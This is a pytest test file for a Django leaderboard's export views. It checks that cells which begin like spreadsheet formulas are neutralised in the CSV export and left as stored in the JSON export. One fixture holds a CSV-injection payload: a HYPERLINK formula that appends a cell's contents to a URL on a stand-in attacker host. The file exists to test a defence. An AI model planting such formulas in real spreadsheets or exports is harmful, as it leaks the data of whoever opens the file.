"""A round's CSV export never hands a spreadsheet a formula a submitter wrote ("CSV injection"); the JSON
export keeps every text as stored."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.test import Client

from leaderboard.exports import FORMULA_STARTS
from tests.factories import BenchmarkFactory, OrganizationFactory, ResultFactory, RoundFactory, SystemFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"see")'


@pytest.fixture
def hostile_round():
    """A published round whose texts a submitter wrote, each beginning like a formula in its own way."""
    round_ = RoundFactory(slug="hostile-v1.0")
    resnet = BenchmarkFactory(round=round_, key="resnet", position=0)
    names = [FORMULA, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "Plain 8"]
    for position, name in enumerate(names):
        organization = OrganizationFactory(name=f"=Org{position}" if position == 0 else f"Org {position}",
                                           slug=f"org-{position}")
        system = SystemFactory(round=round_, organization=organization, slug=f"sys-{position}", name=name,
                               accelerator_model_name="@X100" if position == 1 else "X100",
                               framework="-PyTorch" if position == 2 else "PyTorch 2.5")
        ResultFactory(system=system, benchmark=resnet, score=-1.5 if position == 3 else 2.0 + position)
    return round_, names


def _body(response) -> str:
    return b"".join(response.streaming_content).decode()


def test_csv_cells_that_begin_like_a_formula_are_written_as_text(client: Client, hostile_round) -> None:
    _, names = hostile_round
    response = client.get("/rounds/hostile-v1.0/export.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(_body(response), newline="")))
    assert len(rows) == len(names)
    text_fields = ["round", "ruleset", "submitter", "system", "system_name", "benchmark", "division", "category",
                   "system_type", "accelerator_model", "framework", "scaling_source", "verdict", "url"]
    for row in rows:
        for name in text_fields:
            assert not row[name].startswith(FORMULA_STARTS), (name, row[name])
    by_system = {row["system"]: row for row in rows}
    assert {row["system_name"] for row in rows} == {"'" + name for name in names[:-1]} | {"Plain 8"}
    assert by_system["sys-0"]["submitter"] == "'=Org0"
    assert by_system["sys-1"]["accelerator_model"] == "'@X100"
    assert by_system["sys-2"]["framework"] == "'-PyTorch"
    assert by_system["sys-6"]["framework"] == "PyTorch 2.5" and by_system["sys-6"]["submitter"] == "Org 6"
    # A number stays a number, negative or not.
    assert by_system["sys-3"]["score"] == "-1.5"
    assert by_system["sys-4"]["score"] == "6.0"


def test_a_filtered_csv_export_is_written_as_text_too(client: Client, hostile_round) -> None:
    body = _body(client.get("/rounds/hostile-v1.0/export.csv?submitter=org-0&cols=resnet"))
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    assert [(row["submitter"], row["system_name"]) for row in rows] == [("'=Org0", "'" + FORMULA)]


def test_the_json_export_keeps_every_text_as_stored(client: Client, hostile_round) -> None:
    _, names = hostile_round
    data = json.loads(_body(client.get("/rounds/hostile-v1.0/export.json")))
    assert sorted(row["system_name"] for row in data["results"]) == sorted(names)
    assert {row["submitter"] for row in data["results"]} >= {"=Org0"}
